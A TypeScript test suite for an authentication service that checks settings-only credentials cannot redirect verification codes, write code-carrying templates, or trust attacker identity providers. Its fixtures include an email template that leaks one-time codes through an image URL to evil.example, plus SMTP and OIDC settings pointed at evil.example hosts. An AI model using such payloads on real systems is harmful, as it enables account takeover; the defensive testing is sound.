// Who may only change settings takes over no account by them: codes and links go where somebody with the right to change users says, look
// as such a person wrote them, and addresses are believed of providers that such a person trusts.
import assert from 'node:assert/strict'
import { it } from 'node:test'
import type { ApiKeyWithKey, Channel, Scope, Template, Tenant } from '@bailiwick/contract'
import { createTenant, unique } from '../harness/factories.ts'
import { addMember, signInConsoleUser } from '../harness/people/sessions.ts'
import { describeNodesInTurn } from '../harness/service.ts'

describeNodesInTurn('the right to change settings alone', (service) => {
  const createKey = async (tenantId: string, ...scopes: Scope[]) =>
    (await service().ok<ApiKeyWithKey>('createApiKey', { body: { tenantId, name: unique(), scopes } })).key
  const channelBody = (tenantId: string) => ({
    tenantId,
    name: unique(),
    key: unique().replaceAll(/[^a-z]/g, '-'),
    type: 'email',
    provider: 'email_smtp',
    providerSettings: { host: '127.0.0.1', port: 25, from: 'no-reply@acme.example' },
  })
  const template = (tenantId: string, name: string) => ({
    tenantId,
    type: 'email',
    name,
    subject: 'Hello',
    body: '<img src="https://evil.example/{{ code }}">',
  })

  /** Each credential that may change settings and not users, in a tenant of its own. */
  async function editors() {
    const { tenant } = await createTenant(service())
    const person = await signInConsoleUser(service())
    await addMember(service(), tenant.id, person, 'roleEditConfig')
    const key = await createKey(tenant.id, 'config:write')
    return { tenant, tokens: [key, person.token], usersToo: await createKey(tenant.id, 'config:write', 'users:write') }
  }

  const refused = async (operation: string, request: object) => {
    const { message } = await service().refused(operation as 'updateChannel', 'forbidden', request)
    assert.match(message, /users:write/)
  }

  it('sends no codes elsewhere: neither by the settings, nor by an earlier version of them, nor by a channel in use', async () => {
    const { tenant, tokens, usersToo } = await editors()
    const params = { id: tenant.id }
    for (const token of tokens) {
      const channel = await service().ok<Channel>('createChannel', { body: channelBody(tenant.id), token })
      const own = await service().ok<Template>('createTemplate', { body: template(tenant.id, unique()), token })
      for (const body of [
        { emailChannelId: channel.id },
        { codeVerificationEmailTemplateId: own.id },
        { magicLinkEmailTemplateId: own.id, signUpEnabled: false },
      ]) {
        await refused('putAuthTenant', { params, body, token })
      }
      await service().ok('putAuthTenant', { params, body: { welcomeEmailTemplateId: own.id }, token })
      await service().ok('putAuthTenant', { params, body: { emailChannelId: channel.id }, token: usersToo })
      const version = `${(await service().ok<{ meta: { total: number } }>('listAuthVersions', { params })).meta.total}`
      await service().ok('putAuthTenant', { params, body: { emailChannelId: null } })
      await refused('restoreAuthVersion', { params: { ...params, version }, token })
      await service().ok('restoreAuthVersion', { params: { ...params, version }, token: usersToo })
      const update = (body: object) => ({ params: { id: channel.id }, body, token })
      const { providerSettings } = channelBody(tenant.id)
      await refused('updateChannel', update({ providerSettings: { ...providerSettings, host: 'evil.example' } }))
      await refused('updateChannel', update({ provider: 'dev_inbox', providerSettings: {} }))
      await service().ok('updateChannel', update({ name: unique() }))
      await service().ok('updateChannel', { ...update({ providerSettings }), token: usersToo })
      await service().ok('putAuthTenant', { params, body: { emailChannelId: null } })
      await service().ok('updateChannel', update({ providerSettings: { ...providerSettings, port: 26 } }))
    }
  })

  it('writes no message that carries a code or link, under whatever name', async () => {
    const { tenant, tokens, usersToo } = await editors()
    const found = await service().ok<{ data: Template[] }>('listTemplates', {
      params: { tenantId: tenant.id },
      query: { perPage: '100' },
    })
    const inUse = found.data.find(({ name }) => name === 'verification-code')
    const { tenant: other } = await createTenant(service())
    const { id: codes } = await service().ok<Template>('createTemplate', { body: template(tenant.id, 'our-codes') })
    const body = { codeVerificationSMSMessageTemplateId: null, codeVerificationEmailTemplateId: codes }
    await service().ok('putAuthTenant', { params: { id: tenant.id }, body })
    for (const token of tokens) {
      for (const name of [
        'password-reset',
        'password-reset.de',
        'tenant-invitation',
        'magic-link-sms.en-GB',
        'our-codes.fr',
      ]) {
        await refused('createTemplate', { body: template(tenant.id, name), token })
      }
      for (const id of [inUse?.id ?? '', codes]) {
        await refused('updateTemplate', { params: { id }, body: { body: 'x' }, token })
      }
      const harmless = await service().ok<Template>('createTemplate', { body: template(tenant.id, unique()), token })
      await refused('updateTemplate', { params: { id: harmless.id }, body: { name: 'password-reset' }, token })
      await service().ok('updateTemplate', { params: { id: harmless.id }, body: { body: 'x' }, token })
    }
    const person = await signInConsoleUser(service())
    for (const id of [tenant.id, other.id]) await addMember(service(), id, person, 'roleEditConfig')
    const clone = { tenantId: other.id, toTenantId: tenant.id, templates: ['verification-code'], overwrite: true }
    await refused('cloneTemplates', { body: clone, token: person.token })
    await service().ok('createTemplate', { body: template(tenant.id, 'password-reset'), token: usersToo })
  })

  it('trusts no provider that says which addresses are verified', async () => {
    const { tenant, tokens, usersToo } = await editors()
    const own = (key: string, more: object = {}) => ({
      tenantId: tenant.id,
      key,
      name: 'Ours',
      enabled: true,
      issuer: 'https://id.evil.example',
      clientId: 'ours',
      ...more,
    })
    const gitlab = {
      tenantId: tenant.id,
      providerKey: 'gitlab',
      enabled: true,
      clientId: 'ours',
      clientSecret: 'secret',
    }
    const config = { baseUrl: 'https://git.evil.example', trustEmails: true }
    for (const [n, token] of tokens.entries()) {
      await refused('createCustomProvider', { body: own(`custom-ours-${n}`, { trustEmails: true }), token })
      const { id } = await service().ok<{ id: string }>('createCustomProvider', {
        body: own(`custom-ours-${n}`),
        token,
      })
      await refused('updateCustomProvider', { params: { id }, body: { trustEmails: true }, token })
      await service().ok('updateCustomProvider', { params: { id }, body: { trustEmails: true }, token: usersToo })
      await refused('updateCustomProvider', { params: { id }, body: { issuer: 'https://more.evil.example' }, token })
      await service().ok('updateCustomProvider', {
        params: { id },
        body: { trustEmails: false, name: 'Theirs' },
        token,
      })
      await refused('createSocialProvider', { body: { ...gitlab, config }, token })
      const social = await service().ok<Tenant>('createSocialProvider', { body: gitlab, token })
      await refused('updateSocialProvider', { params: { id: social.id }, body: { config, clientSecret: 'new' }, token })
      await service().ok('deleteSocialProvider', { params: { id: social.id }, token })
    }
  })
})
